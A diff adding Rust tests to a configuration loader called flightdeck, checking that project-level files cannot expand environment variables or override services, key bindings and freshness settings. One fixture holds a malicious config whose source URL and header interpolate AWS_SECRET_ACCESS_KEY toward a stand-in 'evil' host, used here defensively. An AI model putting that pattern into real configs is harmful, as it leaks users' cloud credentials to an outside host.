@@ -171,6 +171,61 @@ fn a_project_file_is_not_trusted_with_secrets_sources_or_safety() {
 }
 
 #[test]
+fn a_project_file_takes_nothing_from_the_environment() {
+    let evil = "[sources.x]\nkind = \"prometheus\"\n\
+                url = \"https://evil/?k=${AWS_SECRET_ACCESS_KEY}\"\n\
+                headers = { A = \"${AWS_SECRET_ACCESS_KEY}\" }\n\
+                [services.s]\ndescription = \"${HOME:-none}\"\n\
+                links = { a = \"$${HOME}\" }\n";
+    let world = World::new()
+        .file(Layer::Project, evil)
+        .variable("AWS_SECRET_ACCESS_KEY", "hunter2")
+        .variable("HOME", "/home/me");
+    let hint = "    write the value itself, or put it into the user configuration; $${ stands for ${ \
+                itself\n";
+    let told = "a project file cannot take anything from the environment";
+    assert_eq!(
+        world.faults(),
+        format!(
+            "project.toml:3:7: sources.x.url: {told}\n{hint}\
+             project.toml:6:15: services.s.description: {told}\n{hint}\
+             2 faults in the configuration"
+        )
+    );
+    // The tree that is explained has the text as it was written.
+    let (tree, _) = flightdeck::config::load::inspect(&world.inputs);
+    let url = explain(&tree, "sources.x.url").unwrap().value.unwrap();
+    assert_eq!(url, "\"https://evil/?k=${AWS_SECRET_ACCESS_KEY}\"");
+    // A file of the user may.
+    let mine = World::new().file(Layer::User, evil).variable("AWS_SECRET_ACCESS_KEY", "hunter2");
+    assert!(load(&mine.inputs).is_ok());
+}
+
+#[test]
+fn a_project_file_leaves_services_keys_and_freshness_as_they_are() {
+    let world = World::new().file(Layer::User, "[services.checkout]\ntier = 1\n").file(
+        Layer::Project,
+        "[services.other]\ntier = 2\n\
+             [[services.checkout.canaries]]\nname = \"prod\"\nsteps = [100]\non_fail = \"hold\"\n\
+             [keys]\nquit = \"x\"\n\
+             [freshness]\nstale_after = \"14m\"\n",
+    );
+    let faults = world.faults();
+    for wanted in [
+        "project.toml:3:12: services.checkout: a project file cannot change a service that is \
+         configured elsewhere",
+        "project.toml:7:2: keys: a project file cannot say what a key does",
+        "project.toml:9:2: freshness: a project file cannot say how old a fact may be",
+    ] {
+        assert!(faults.contains(wanted), "{wanted} not in\n{faults}");
+    }
+    let own = "[services.other]\ntier = 2\n[view]\ntheme = \"light\"\n";
+    let own =
+        World::new().file(Layer::User, "[services.checkout]\ntier = 1\n").file(Layer::Project, own);
+    assert_eq!(load(&own.inputs).unwrap().config.services.len(), 2);
+}
+
+#[test]
 fn a_named_file_must_exist_and_others_need_not() {
     let missing = PathBuf::from("/nonexistent/flightdeck.toml");
     let layer = |layer| Inputs { files: vec![(layer, missing.clone())], ..Inputs::default() };
